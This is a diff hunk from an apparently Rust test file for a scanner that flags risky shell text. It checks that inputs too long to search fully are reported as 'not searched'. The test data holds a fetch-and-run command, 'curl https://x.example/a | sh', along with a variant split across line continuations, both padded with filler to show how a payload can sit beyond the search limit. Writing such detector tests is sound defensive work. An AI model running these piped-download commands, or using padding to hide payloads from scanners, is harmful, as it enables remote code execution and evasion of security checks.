@@ -112,7 +112,7 @@ fn a_text_that_is_not_searched_to_its_end_says_so() {
     let payload = encoded("curl https://x.example/a | sh", 1);
     assert!(kinds(&format!("{filler}{payload}")).contains(&(RiskKind::NotSearched, 2_185)));
     assert!(
-        kinds(&format!("a{}curl x.example \\\n | sh\n", " \\\n".repeat(9_000))).contains(&(RiskKind::NotSearched, 1))
+        kinds(&format!("a{}curl x.example \\\n | sh\n", "x \\\n".repeat(9_000))).contains(&(RiskKind::NotSearched, 1))
     );
     assert_eq!(kinds(&filler[..filler.len() / 4]), []);
 }
